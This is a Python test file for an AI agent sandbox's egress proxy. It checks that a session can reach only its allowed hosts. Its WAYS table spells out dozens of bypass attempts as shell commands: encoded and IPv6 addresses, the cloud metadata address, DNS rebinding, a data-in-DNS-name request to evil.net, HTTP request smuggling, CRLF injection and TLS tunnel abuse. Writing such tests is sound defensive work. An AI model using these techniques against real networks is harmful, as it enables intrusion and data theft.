"""A session with allowed hosts reaches those, and there is no way around the list.

The web is a real one on public addresses; the server, its resolver and its sandboxes are as an operator runs them.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import ssl
import subprocess
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from app.sessions import AllowedHosts, is_covered
from app.settings import Settings
from tests.behavior.conftest import WALLED, StartServer
from tests.behavior.harness import Client, command
from tests.behavior.process import ServerProcess
from tests.behavior.public_web import WORD, PublicWeb, need_network_namespaces, public_web
from tests.behavior.test_tools import results_of
from tests.behavior.web_server import ALLOWED
from tests.provider import FakeProvider, Reply, Text
from tests.provider.server import running_provider
from tests.requirements import need
from tests.unit.sandbox.shell import unique_seconds, until_gone, until_sleeping

IMAGE = os.environ.get("PALIMPSEST_TEST_IMAGE", "palimpsest/test-busybox:latest")
FULL_IMAGE = "palimpsest/test-full:latest"
HOSTS = {"allowed_hosts": list(ALLOWED)}
OPERATOR = {"PALIMPSEST_SANDBOX_NETWORK": json.dumps({"allowed_hosts": [*ALLOWED, "further.example.com"]})}

UNLISTED = "it is not among the session's allowed_hosts"
NO_NAME = "only full host names can be reached"
PORT = "only port 80 for HTTP and port 443 for HTTPS"
NOT_PUBLIC = "its name does not resolve to a public address"
NOT_TLS = "only TLS may go through a tunnel"

# The first test waits for all ways to be tried.
pytestmark = pytest.mark.timeout(400)

HELPERS = r"""
LIMIT=60
ask() {
    if [ -n "${BASH_VERSION:-}" ]; then timeout $LIMIT bash -c 'exec 3<>/dev/tcp/$0/$1 && cat >&3 && cat <&3' "$1" "$2"
    else timeout $LIMIT nc -w $LIMIT "$1" "$2"; fi
}
via() { printf "$1" | ask 127.0.0.1 3128; }
get() { via "GET $1 HTTP/1.1\r\nHost: packages.example.com\r\n\r\n"; }
tunnel() { via "CONNECT $1 HTTP/1.1\r\nHost: packages.example.com\r\n\r\n$2"; }
"""
"""Plain bash, or busybox's tools. `LIMIT` are the seconds to wait for an answer."""


def hello(name: str | None) -> str:
    """The first message of TLS for a server name, for `printf`."""
    context = ssl.create_default_context()
    context.check_hostname = name is not None
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    connection = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        connection.do_handshake()
    return "".join(f"\\{byte:03o}" for byte in outgoing.read())


def literal(host: str) -> tuple[str, str]:
    return f"get http://{host}/", NO_NAME


def resolved(name: str) -> tuple[str, str]:
    return f"get http://{name}.example.org/", NOT_PUBLIC


TUNNEL = "packages.example.com:443"
WAYS: dict[str, tuple[str, str | None]] = {
    "a name that is not listed": ("get http://elsewhere.example.net/", UNLISTED),
    "a tunnel to a name that is not listed": ("tunnel elsewhere.example.net:443", UNLISTED),
    "the name above a wildcard": ("get http://example.org/", UNLISTED),
    "a name that ends alike": ("get http://evilexample.org/", UNLISTED),
    "a listed name as a label": ("get http://packages.example.com.evil.net/", UNLISTED),
    "data in a name for DNS": ("get http://c2VjcmV0IGRhdGE.tunnel.evil.net/", UNLISTED),
    "a look-alike as A-label": ("get http://xn--pckages-4fg.example.com/", UNLISTED),
    "a look-alike in UTF-8": (r"get 'http://p\320\260ckages.example.com/'", "400 Bad Request"),
    "an IPv4 address": literal("93.184.216.34"),
    "a decimal address": literal("2130706433"),
    "an octal address": literal("0177.0.0.1"),
    "a hexadecimal address": literal("0x7f.0.0.1"),
    "a short address": literal("127.1"),
    "an IPv6 address": literal("[::1]"),
    "a mapped address": literal("[::ffff:127.0.0.1]"),
    "a translated address": literal("[64:ff9b::7f00:1]"),
    "the metadata address": literal("169.254.169.254"),
    "a tunnel to an address": ("tunnel 169.254.169.254:443", NO_NAME),
    "a tunnel to an IPv6 address": ("tunnel [fd00::1]:443", NO_NAME),
    "a trailing dot": literal("packages.example.com."),
    "user information": literal("packages.example.com@elsewhere.example.net"),
    "a percent-encoded name": literal("packages%%2eexample.com"),
    "a backslash": literal(r"packages.example.com\\\\\\\\@elsewhere.example.net"),
    "a name for the metadata address": resolved("metadata"),
    "a name for a private address": resolved("private"),
    "a name for a carrier's address": resolved("carrier"),
    "a name for loopback": resolved("loopback"),
    "a name for all addresses": resolved("unspecified"),
    "a name for multicast": resolved("multicast"),
    "a name for IPv6's loopback": resolved("loopback6"),
    "a name for a mapped address": resolved("mapped"),
    "a name for a translated address": resolved("translated"),
    "a name for a 6to4 address": resolved("tunneled"),
    "a name for the server's public address": resolved("server"),
    "the server's port by a name": ("get http://server.example.org:$OURS/v1/sessions", PORT),
    "the server's port directly": ("printf 'GET /v1/sessions HTTP/1.0\\r\\n\\r\\n' | ask 127.0.0.1 $OURS", None),
    "another port": ("get http://packages.example.com:8080/", PORT),
    "a tunnel to another port": ("tunnel packages.example.com:22", PORT),
    "a tunnel to the port of HTTP": ("tunnel packages.example.com:80", PORT),
    "a name that is rebound": ("for i in 1 2; do get http://rebinding.example.org/page; done", NOT_PUBLIC),
    "a second request on the connection": (
        r"via 'GET http://packages.example.com/page HTTP/1.1\r\nHost: a\r\n\r\n"
        r"GET http://elsewhere.example.net/ HTTP/1.1\r\nHost: elsewhere.example.net\r\n\r\n'",
        "ALLOWED",
    ),
    "another host in the header": (
        r"via 'GET http://packages.example.com/page HTTP/1.1\r\nHost: elsewhere.example.net\r\n\r\n'",
        "ALLOWED",
    ),
    "two lengths": (
        r"via 'POST http://packages.example.com/ HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n"
        r"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://elsewhere.example.net/ HTTP/1.1\r\n\r\n'",
        "conflicting length headers",
    ),
    "a request in a body": (
        r"via 'POST http://packages.example.com/ HTTP/1.1\r\nHost: a\r\nContent-Length: 47\r\n\r\n"
        r"GET / HTTP/1.1\r\nHost: elsewhere.example.net\r\n\r\n'",
        "taken",
    ),
    "a line break in the target": (
        r"get 'http://packages.example.com/\r\nHost: elsewhere.example.net'",
        "400 Bad Request",
    ),
    "an upgrade": (
        r"via 'GET http://packages.example.com/page HTTP/1.1\r\nHost: a\r\nConnection: upgrade\r\n"
        r"Upgrade: websocket\r\n\r\n'",
        "ALLOWED",
    ),
    "a redirect": ("wget -q -O - http://packages.example.com/redirect", UNLISTED),
    "a redirect to the metadata address": ("wget -q -O - http://packages.example.com/to-metadata", NO_NAME),
    "another name inside TLS": (f"tunnel {TUNNEL} '$ELSEWHERE'", "it was requested over a connection to"),
    "no name inside TLS": (f"tunnel {TUNNEL} '$NAMELESS'", "no server name"),
    "no TLS in a tunnel": (rf"tunnel {TUNNEL} 'SSH-2.0-OpenSSH\r\n'", NOT_TLS),
    "HTTP in a tunnel": (rf"tunnel {TUNNEL} 'GET / HTTP/1.1\r\nHost: elsewhere.example.net\r\n\r\n'", NOT_TLS),
    "a request that is not a proxy's": ("get /page", "this is a proxy"),
    "an address of HTTPS without a tunnel": ("get https://packages.example.com/page", "this is a proxy"),
    "a head without end": ("via \"GET http://$(head -c 70000 /dev/zero | tr '\\\\0' a) HTTP/1.1\\r\\n\"", None),
    "a socket to the web": (r"printf 'GET / HTTP/1.0\r\n\r\n' | ask $WEB 80", None),
    "a datagram to a name server": (
        "if [ -n \"${BASH_VERSION:-}\" ]; then echo datagram >/dev/udp/$WEB/53;"
        " else timeout 4 nslookup datagram.example.org $WEB; fi",
        None,
    ),
    "a name without the proxy": ("getent hosts direct.example.org; timeout 4 nslookup direct.example.org", None),
    "sockets of the host": ("cat /proc/net/unix; ls /run /var/run; tail -n +2 /proc/net/route", None),
    "a route of one's own": ("(ip link add x type veth || ip addr add 10.0.0.1 dev lo) && echo REACHED", None),
    "the proxies of others": ("for i in 2 3 4; do ask 127.0.0.$i 3128 </dev/null && echo REACHED; done", None),
}  # fmt: skip
"""Each way around the list, with its expected output; None if nothing answers at all."""


@dataclass(frozen=True)
class Tried:
    """One session's results: `outputs` by the way's name."""

    outputs: dict[str, str]
    control: str
    metrics: str
    web: PublicWeb


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PublicWeb]:
    need_network_namespaces()
    with public_web(tmp_path_factory.mktemp("web")) as made:
        yield made


@pytest.fixture(scope="module", params=WALLED)
def kind(request: pytest.FixtureRequest) -> str:
    need(request.param)
    return str(request.param)


@pytest.fixture(scope="module")
def tried(kind: str, web: PublicWeb, tmp_path_factory: pytest.TempPathFactory) -> Tried:
    directory = tmp_path_factory.mktemp("server") / "data"
    with (
        running_provider() as provider,
        ServerProcess(directory, provider, kind, IMAGE, more=OPERATOR, wrapper=web.wrapper) as server,
        asyncio.Runner() as runner,
    ):
        return runner.run(_try_all(server, provider, web, kind))


async def _try_all(server: ServerProcess, provider: FakeProvider, web: PublicWeb, kind: str) -> Tried:
    values = {"$OURS": server.url.rpartition(":")[2], "$WEB": web.address}
    values |= {"$ELSEWHERE": hello("elsewhere.example.net"), "$NAMELESS": hello(None)}
    # All of the limit is waited where nothing answers.
    scripts = [script if met is not None else f"LIMIT=4; {script}" for script, met in WAYS.values()]
    tunnel = f"(tunnel {TUNNEL} '{hello('packages.example.com')}' &)"  # which stays open
    scripts.append(f"get http://packages.example.com/page; {tunnel} | head -c 501 | wc -c")
    for name, value in values.items():
        scripts = [script.replace(name, value) for script in scripts]
    provider.script(Reply(*(command(f"{HELPERS}({script}) 2>&1") for script in scripts)), Reply(Text("Done.")))
    async with Client(server.url) as client:
        session, events = await client.run("get out", sandbox={"kind": kind, "network": HOSTS})
        metrics = (await client.http.get("/metrics")).text
        await client.http.delete(f"/v1/sessions/{session['id']}")
    *outputs, control = [str(event.data["output"]) for event in results_of(events)]
    return Tried(dict(zip(WAYS, outputs, strict=True)), control, metrics, web)


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.slow
def test_no_way_leads_around_the_list(tried: Tried, way: str) -> None:
    met = WAYS[way][1]
    assert "REACHED" not in tried.outputs[way]
    assert "HTTP/1.1 101" not in tried.outputs[way]
    if met is None:
        assert "HTTP/1.1 2" not in tried.outputs[way]
        assert '"items"' not in tried.outputs[way]
    else:
        assert met in tried.outputs[way]


@pytest.mark.slow
def test_the_attempts_were_real(tried: Tried) -> None:
    """The same commands reach allowed hosts, with and without TLS."""
    assert "ALLOWED" in tried.control
    assert int(tried.control.split("ALLOWED")[1].split()[0]) > 500, "no answer came through the tunnel"


@pytest.mark.slow
def test_the_web_only_saw_requests_for_allowed_hosts(tried: Tried) -> None:
    """No request, no handshake and no name either: resolving a name leaks it to its name server."""
    names = set(tried.web.asked("dns"))
    assert "packages.example.com" in names
    assert {name for name in names if not is_covered(name, ALLOWED)} == set()
    assert {"direct.example.org", "datagram.example.org"} & names == set()
    requests = tried.web.asked("http")
    assert {host for host, *_ in requests if not is_covered(host, ALLOWED)} == set()
    assert not any("upgrade" in headers for *_, headers in requests)
    assert {name for name in tried.web.asked("tls") if not is_covered(name, ALLOWED)} == set()


@pytest.mark.slow
def test_refusals_are_counted(tried: Tried) -> None:
    (line,) = [
        line for line in tried.metrics.splitlines() if line.startswith("palimpsest_sandbox_connections_refused_total")
    ]
    assert float(line.split()[-1]) >= sum(met in (UNLISTED, NO_NAME, NOT_PUBLIC, PORT) for _, met in WAYS.values())


FETCH = """python3 -c "
import urllib.request
for name in ('pip.tar', 'ca.pem'):
    urllib.request.urlretrieve('http://packages.example.com/' + name, name)
" && tar -xf pip.tar && export PYTHONPATH=$PWD GIT_SSL_CAINFO=$PWD/ca.pem &&
"""
PIP = """python3 -m pip install --quiet --cert ca.pem --index-url https://packages.example.com/simple/ \\
    --target out demo &&
PYTHONPATH=out python3 -c 'import demo; print(demo.WORD)'
"""
CLONE = "git clone --quiet {scheme}://code.example.org/demo.git {scheme} && cat {scheme}/README"


@pytest.mark.extended
async def test_packages_are_installed_and_repositories_cloned(kind: str, web: PublicWeb, tmp_path: Path) -> None:
    need_image(kind)
    scripts = [FETCH + PIP, FETCH + CLONE.format(scheme="https"), CLONE.format(scheme="http")]
    scripts.append(FETCH + PIP.replace("packages.example.com", "pypi.example.net"))
    with (
        running_provider() as provider,
        ServerProcess(tmp_path / "data", provider, kind, FULL_IMAGE, more=OPERATOR, wrapper=web.wrapper) as server,
    ):
        provider.script(Reply(*map(command, scripts)), Reply(Text("Done.")))
        async with Client(server.url) as client:
            session, events = await client.run("install", sandbox={"kind": kind, "network": HOSTS})
            await client.http.delete(f"/v1/sessions/{session['id']}")
    *reached, refused = [event.data for event in results_of(events)]
    assert [(result["exit_code"], result["output"].splitlines()[-1:]) for result in reached] == [(0, [WORD])] * 3
    assert refused["exit_code"] != 0
    assert refused["output"].count(f"pypi.example.net was refused: {UNLISTED}]") == 1


def need_image(kind: str) -> None:
    """Skips the test if the image with Python and git is missing."""
    if kind == "docker" and subprocess.run(["docker", "image", "inspect", FULL_IMAGE], capture_output=True).returncode:
        pytest.skip(f"{FULL_IMAGE} is missing; `.ci/docker-engine full` makes it")


@pytest.fixture
def seconds() -> str:
    return unique_seconds()


async def test_a_killed_server_leaves_no_way_open(kind: str, tmp_path: Path, seconds: str) -> None:
    """And its successor opens its own."""

    def start() -> ServerProcess:
        return ServerProcess(tmp_path / "data", provider, kind, IMAGE, more=OPERATOR)

    with running_provider() as provider:
        provider.script(
            Reply(command(f"sleep {seconds}")),
            Reply(command(f"{HELPERS} get http://elsewhere.example.net/")),
            Reply(Text("Done.")),
        )
        with start() as server:
            async with Client(server.url) as client:
                session_id = (await client.create("wait", sandbox={"kind": kind, "network": HOSTS}))["id"]
            await until_sleeping(seconds)
            assert listens(seconds)
            server.end(signal.SIGKILL)
        assert not listens(seconds)
        with start() as server:
            async with Client(server.url) as client:
                events = await client.until_idle(session_id)
                await client.http.delete(f"/v1/sessions/{session_id}")
    assert UNLISTED in results_of(events)[-1].data["output"]
    await until_gone(seconds)


def listens(seconds: str) -> bool:
    """Whether the proxy's port is open in the network of the command with this sleep time."""
    found = False
    for process in Path("/proc").iterdir():
        with suppress(OSError):
            if process.name.isdigit() and seconds.encode() in (process / "cmdline").read_bytes().split(b"\0"):
                found |= "0100007F:0C38" in (process / "net/tcp").read_text()
    return found


async def test_a_request_s_list_is_checked(start_server: StartServer, provider: FakeProvider) -> None:
    server = start_server(sandbox_network={"allowed_hosts": ["packages.example.com", "*.example.org"]})
    async with Client(server.url) as client:

        async def ask(*hosts: str) -> httpx.Response:
            sandbox = {"kind": "bubblewrap", "network": {"allowed_hosts": hosts}}
            return await client.http.post("/v1/sessions", json={"sandbox": sandbox})

        for wrong in ((), ("*",), ("*.com",), ("localhost",), ("127.0.0.1",), ("[::1]",), ("a.example.org",) * 65):
            answer = await ask(*wrong)
            assert (answer.status_code, answer.json()["code"]) == (422, "validation_error"), wrong
        for beyond in ("example.org", "elsewhere.example.net", "*.packages.example.com"):
            answer = await ask("packages.example.com", beyond)
            assert (answer.status_code, answer.json()["code"]) == (403, "sandbox_not_allowed"), beyond
            assert "packages.example.com, *.example.org" in answer.json()["detail"]
        made = (await ask("API.Example.ORG")).json()
        assert made["sandbox"]["network"] == {"allowed_hosts": ["api.example.org"]}
        forked = (await client.http.post(f"/v1/sessions/{made['id']}/fork", json={})).json()
        assert forked["sandbox"]["network"] == {"allowed_hosts": ["api.example.org"]}
        plain = await client.create()
        assert plain["sandbox"]["network"] == {"allowed_hosts": ["packages.example.com", "*.example.org"]}
        off = await client.create(sandbox={"kind": "bubblewrap", "network": "off"})
        assert off["sandbox"]["network"] is False


async def test_the_model_is_told_of_allowed_and_refused_hosts(
    start_server: StartServer, provider: FakeProvider, sandbox: str
) -> None:
    server = start_server(sandbox_network=HOSTS)
    provider.script(Reply(command(f"{HELPERS} get http://elsewhere.example.net/ >seen")), Reply(Text("Done.")))
    async with Client(server.url) as client:
        _, events = await client.run("look")
    assert "packages.example.com, *.example.org" in str(provider.requests[0].body)
    (result,) = results_of(events)
    assert result.data["output"].endswith(f"[network: elsewhere.example.net was refused: {UNLISTED}]")
    assert f"elsewhere.example.net was refused: {UNLISTED}" in str(provider.requests[-1].body)


def test_local_unsafe_refuses_a_list() -> None:
    with pytest.raises(ValueError, match="local-unsafe cannot limit"):
        Settings(_env_file=None, sandbox="local-unsafe", sandbox_network=AllowedHosts(allowed_hosts=ALLOWED))
